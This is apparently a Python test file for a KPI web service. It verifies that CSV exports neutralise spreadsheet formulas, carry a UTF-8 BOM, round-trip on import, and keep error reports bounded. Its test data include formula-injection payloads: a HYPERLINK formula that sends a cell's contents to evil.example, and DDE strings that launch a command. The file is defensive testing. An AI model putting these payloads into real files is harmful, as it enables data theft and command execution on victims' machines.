"""KPI CSV: no formula leaves in an export, the export is UTF-8 with a BOM, and a refused
import's error report is bounded."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from kpi.csvio import FORMULA_TRIGGERS, neutralise, restore
from tests import http_calls
from tests.security.conftest import WebProcess, bearer, login

FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted")


def test_export_neutralises_formulas_has_a_bom_and_imports_back_unchanged(
    web_server: WebProcess,
) -> None:
    planner = bearer(login(web_server, "plan"))
    with http_calls.client(base_url=web_server.url, timeout=60) as api:
        for k, note in enumerate(FORMULAS):
            body = {"indicator_id": "2.1", "period": str(2016 + k), "as_of": f"{2016 + k}-06-30",
                    "value": 2, "unit": "times", "source_note": note}
            r = api.post("/api/kpis/observations", headers=planner, json=body)
            assert r.status_code == 201, r.text
        before = sorted(o["source_note"] for o in api.get(
            "/api/kpis/observations", headers=planner, params={"indicator_id": "2.1"}).json())
        exported = api.get("/api/kpis/export", headers=planner, params={"indicator_id": "2.1"})
        assert exported.status_code == 200
        raw = exported.content
        assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 byte-order mark (Excel on zh-TW Windows)"
        rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
        assert len(rows) == len(FORMULAS)
        for row in rows:
            for column, cell in row.items():
                assert not cell or cell[0] not in FORMULA_TRIGGERS or column in (
                    "value", "numerator", "denominator", "target", "achievement_pct"), (column, cell)
        assert all(r["name_zh"] and not r["name_zh"].isascii() for r in rows)
        # The same file imported into another year range is read back to the same notes.
        moved = raw.decode("utf-8-sig")
        for k in range(len(FORMULAS)):
            moved = moved.replace(f"{2016 + k}-06-30", f"{2016 + k}-09-30")
        r = api.post("/api/kpis/import", headers=planner,
                     files={"file": ("kpi.csv", moved.encode("utf-8-sig"), "text/csv")})
        assert r.status_code == 200, r.text
        stored = api.get("/api/kpis/observations", headers=planner,
                         params={"indicator_id": "2.1"}).json()
        notes = sorted(o["source_note"] for o in stored)
        assert notes == sorted(before * 2)


def test_the_error_report_of_a_huge_bad_import_is_bounded(web_server: WebProcess) -> None:
    planner = bearer(login(web_server, "plan"))
    header = "indicator_id,period,as_of,value,unit,numerator,denominator,source_note\n"
    bad_row = "no-such,2016,2016-06-30,abc,times,,,note " + "x" * 40 + "\n"
    body = header + bad_row * (4_900_000 // len(bad_row))
    r = http_calls.post(f"{web_server.url}/api/kpis/import", headers=planner, timeout=120,
                   files={"file": ("kpi.csv", body.encode(), "text/csv")})
    assert r.status_code == 422
    problem = r.json()
    assert len(problem["errors"]) <= 100
    assert "more not shown" in problem["detail"]
    assert len(r.content) < 100_000, len(r.content)


def test_each_field_of_a_refused_imports_report_is_cut_to_300_characters(web_server: WebProcess) -> None:
    # docs/security.md: "each quoted field cut to 300 characters (and `…`)". The report quotes a
    # 5,000-character unknown column by name and a 5,000-character bad number in its messages.
    planner = bearer(login(web_server, "plan"))
    header = "indicator_id,period,as_of,value,unit,numerator,denominator,source_note"
    bodies = {"c": f"{header},{'c' * 5_000}\n2.1,2016,2016-06-30,2,times,,,note,x\n",
              "z": f"{header}\n2.1,2016,2016-06-30,{'z' * 5_000},times,,,note\n"}
    for letter, body in bodies.items():
        r = http_calls.post(f"{web_server.url}/api/kpis/import", headers=planner, timeout=60,
                       files={"file": ("kpi.csv", body.encode(), "text/csv")})
        assert r.status_code == 422, r.text[:500]
        fields = [(k, e[k]) for e in r.json()["errors"] for k in ("message", "message_zh", "column") if e.get(k)]
        assert any(letter * 100 in v for _, v in fields), fields
        too_long = [(k, len(v)) for k, v in fields if len(v) > 300 + len("…")]
        assert too_long == [], too_long


@given(st.text(max_size=40))
def test_neutralise_then_restore_is_the_identity_and_never_starts_a_formula(text: str) -> None:
    cell = neutralise(text)
    assert restore(cell) == text
    if cell and cell[0] in FORMULA_TRIGGERS:
        float(cell)  # only a plain number may start with + or -


@given(st.sampled_from(sorted(FORMULA_TRIGGERS)), st.text(max_size=20))
def test_every_trigger_is_neutralised(trigger: str, rest: str) -> None:
    text = trigger + rest
    cell = neutralise(text)
    try:
        float(text)
    except ValueError:
        assert cell.startswith("'")
